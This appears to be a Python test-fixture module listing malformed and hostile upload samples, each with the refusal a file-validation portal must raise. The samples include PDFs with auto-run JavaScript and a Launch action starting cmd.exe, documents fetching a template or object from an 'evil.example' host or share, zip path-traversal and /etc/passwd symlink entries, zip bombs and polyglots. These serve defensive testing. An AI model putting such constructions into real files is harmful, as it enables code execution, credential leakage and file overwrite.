"""Files drawn for tests that must not be kept, each with the name it bears and the refusal that it must meet."""

import stat
from dataclasses import dataclass
from zipfile import ZIP_STORED

from portal.files.drawn import WHOLE, archive, docx, image, packed_pdf, pdf, pdf_of, relationship, with_parts
from wutong.portal.files import refusals as no
from wutong.portal.files.kinds import Kind

ALL = frozenset(Kind)
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
PROGRAM = b"MZ\x90\0\x03\0\0\0" + bytes(200)
PAGES = b"<</Type/Pages/Count 0/Kids[]>>"
TYPES = b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.%s.main+xml"/></Types>'


@dataclass(frozen=True)
class Spoiled:
    """`why` is the class of the refusal."""

    name: str
    content: bytes
    why: type[no.FileRefused]
    kinds: frozenset[str] = ALL


def acting(action: bytes) -> bytes:
    """A PDF that does something when it is opened."""
    return pdf_of(b"<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>", PAGES, action)


def encrypted_zip() -> bytes:
    """An archive whose only file says that it is encrypted, in both of its headers."""
    made = bytearray(archive({"a.txt": b"x"}))
    made[6] |= 1
    made[made.index(b"PK\x01\x02") + 8] |= 1
    return bytes(made)


def linked_zip() -> bytes:
    """An archive whose only file is a symbolic link."""
    made = bytearray(archive({"a.txt": b"/etc/passwd"}))
    place = made.index(b"PK\x01\x02") + 38
    made[place : place + 4] = ((stat.S_IFLNK | 0o777) << 16).to_bytes(4, "little")
    return bytes(made)


def overlapping_zip() -> bytes:
    """An archive with two names for the bytes of one file."""
    made = archive({"a.txt": b"x" * 100, "b.txt": b"x" * 100}, method=ZIP_STORED)
    first = made.index(b"PK\x01\x02")
    second = made.index(b"PK\x01\x02", first + 4)
    return made[: second + 42] + bytes(4) + made[second + 46 :]


def long_png() -> bytes:
    """A picture of more pixels in a row than anybody needs."""
    return image("PNG", (30_001, 1))


EMBEDDED = with_parts(docx(), {"word/vbaProject.bin": b"x"})
SPOILED = {
    "empty": Spoiled("a.pdf", b"", no.FileEmpty),
    "no ending": Spoiled("report", WHOLE["pdf"], no.NameUnusable),
    "only an ending": Spoiled("x/.pdf", WHOLE["pdf"], no.NameUnusable),
    "nothing to see": Spoiled("\u202e\u200b.pdf", WHOLE["pdf"], no.NameUnusable),
    "a device": Spoiled("CON.pdf", WHOLE["pdf"], no.NameUnusable),
    "not asked for": Spoiled("a.csv", WHOLE["csv"], no.KindNotAccepted, frozenset({"pdf", "png"})),
    "a program": Spoiled("a.exe", PROGRAM, no.KindNotAccepted),
    "a page": Spoiled("a.html", b"<!DOCTYPE html><p>x", no.KindNotAccepted),
    "an old document": Spoiled("a.doc", OLD_OFFICE, no.KindNotAccepted),
    "a program named PDF": Spoiled("a.pdf", PROGRAM, no.ContentNotAsNamed),
    "a page named text": Spoiled("a.txt", b"\xef\xbb\xbf \n<HTML><script>", no.ContentNotAsNamed),
    "a drawing named PNG": Spoiled("a.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", no.ContentNotAsNamed),
    "a PNG named JPEG": Spoiled("a.jpg", WHOLE["png"], no.ContentNotAsNamed),
    "a workbook named document": Spoiled("a.docx", WHOLE["xlsx"], no.ContentNotAsNamed),
    "an archive named document": Spoiled("a.docx", WHOLE["zip"], no.ContentNotAsNamed),
    "an old document renamed": Spoiled("a.docx", OLD_OFFICE, no.ContentNotAsNamed),
    "text with zeros": Spoiled("a.csv", "名称".encode("utf-16"), no.ContentNotAsNamed),
    "text in no encoding": Spoiled("a.txt", b"abc\xff\xff\xff", no.ContentNotAsNamed),
    "a late PDF": Spoiled("a.pdf", b"#\n" + WHOLE["pdf"], no.ContentNotAsNamed),
    "a document with a password": Spoiled(
        "a.docx", OLD_OFFICE + "EncryptedPackage".encode("utf-16-le") + bytes(90), no.FileEncrypted
    ),
    "a PDF with a password": Spoiled("a.pdf", pdf(password="x"), no.FileEncrypted),
    "an archive with a password": Spoiled("a.zip", encrypted_zip(), no.FileEncrypted),
    "macros": Spoiled("a.docx", EMBEDDED, no.HasMacros),
    "a document for macros": Spoiled(
        "a.docx", docx({"[Content_Types].xml": TYPES % b"document.macroEnabled"}), no.HasMacros
    ),
    "a macro sheet": Spoiled("a.docx", docx({"xl/macrosheets/sheet1.xml": b"<a/>"}), no.HasMacros),
    "a control": Spoiled("a.docx", docx({"word/activeX/activeX1.bin": b"x"}), no.HasMacros),
    "a fetched template": Spoiled(
        "a.docx",
        docx({"word/_rels/settings.xml.rels": relationship("attachedTemplate", "https://evil.example/t.dotm")}),
        no.HasMacros,
    ),
    "an object on a share": Spoiled(
        "a.docx",
        docx({"word/_rels/more.xml.rels": relationship("oleObject", "\\\\evil.example\\x").decode().encode("utf-16")}),
        no.HasMacros,
    ),
    "entities": Spoiled(
        "a.docx", docx({"word/more.xml": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]>"}), no.FileDamaged
    ),
    "a script": Spoiled("a.pdf", acting(b"<</S /JavaScript /JS (app.alert(1))>>"), no.PdfActs),
    "a script in disguise": Spoiled("a.pdf", acting(b"<</S/J#61vaScript/JS(app.alert(1))>>"), no.PdfActs),
    "a packed script": Spoiled("a.pdf", packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), no.PdfActs),
    "a program to start": Spoiled("a.pdf", acting(b"<</S/Launch/F(cmd.exe)>>"), no.PdfActs),
    "a film with a script": Spoiled("a.pdf", acting(b"<</S/Rendition/JS (x)>>"), no.PdfActs),
    "half a PDF": Spoiled("a.pdf", WHOLE["pdf"][:60], no.FileDamaged),
    "a PDF without pages": Spoiled("a.pdf", pdf_of(b"<</Type/Catalog>>"), no.FileDamaged),
    "half an archive": Spoiled("a.zip", WHOLE["zip"][:-30], no.FileDamaged),
    "half a document": Spoiled("a.docx", WHOLE["docx"][:2000], no.FileDamaged),
    "a wrong checksum": Spoiled("a.png", WHOLE["png"].replace(b"IHDR\0\0\0\x08", b"IHDR\0\0\0\x07"), no.FileDamaged),
    "half a PNG": Spoiled("a.png", WHOLE["png"][:-6], no.FileDamaged),
    "half a JPEG": Spoiled("a.jpg", WHOLE["jpg"][:-2], no.FileDamaged),
    "too many pixels": Spoiled("a.png", long_png(), no.ImageTooLarge),
    "a bomb": Spoiled("a.zip", archive({"a.txt": b" " * 3_000_000}), no.FileTooDeep),
    "a bomb in a document": Spoiled("a.docx", docx({"word/more.xml": b" " * 3_000_000}), no.FileTooDeep),
    "a thousand names": Spoiled("a.zip", archive({f"{n}.txt": b"x" for n in range(501)}), no.FileTooDeep),
    "an archive in an archive": Spoiled("a.zip", archive({"b.zip": WHOLE["zip"]}), no.FileTooDeep),
    "shared bytes": Spoiled("a.zip", overlapping_zip(), no.FileTooDeep),
    "a way up": Spoiled("a.zip", archive({"../../etc/a.txt": b"x"}), no.ArchiveUnsafe),
    "a way up, backwards": Spoiled("a.zip", archive({"..\\a.txt": b"x"}), no.ArchiveUnsafe),
    "a root": Spoiled("a.zip", archive({"/etc/a.txt": b"x"}), no.ArchiveUnsafe),
    "a drive": Spoiled("a.zip", archive({"C:/a.txt": b"x"}), no.ArchiveUnsafe),
    "a link": Spoiled("a.zip", linked_zip(), no.ArchiveUnsafe),
    "one name in two cases": Spoiled("a.zip", archive({"a.txt": b"x", "A.TXT": b"y"}), no.ArchiveUnsafe),
    "a program in an archive": Spoiled("a.zip", archive({"folder/a.exe": PROGRAM}), no.KindNotAccepted),
    "a program renamed in an archive": Spoiled("a.zip", archive({"a.pdf": PROGRAM}), no.ContentNotAsNamed),
    "macros in an archive": Spoiled("a.zip", archive({"a.docx": EMBEDDED}), no.HasMacros),
    "a program left behind": Spoiled("a.zip", archive({"__MACOSX/a.exe": PROGRAM}), no.KindNotAccepted),
    "PDF and archive": Spoiled("a.pdf", WHOLE["pdf"] + WHOLE["zip"], no.TwoFilesInOne),
    "JPEG and archive": Spoiled("a.jpg", WHOLE["jpg"] + WHOLE["zip"], no.TwoFilesInOne),
    "PNG and more": Spoiled("a.png", WHOLE["png"] + b"<script>", no.TwoFilesInOne),
    "text and PDF": Spoiled("a.txt", b"x\n" + b"%PDF-1.4\n%%EOF", no.TwoFilesInOne),
    "archive and more": Spoiled("a.zip", WHOLE["zip"] + b"more", no.TwoFilesInOne),
}
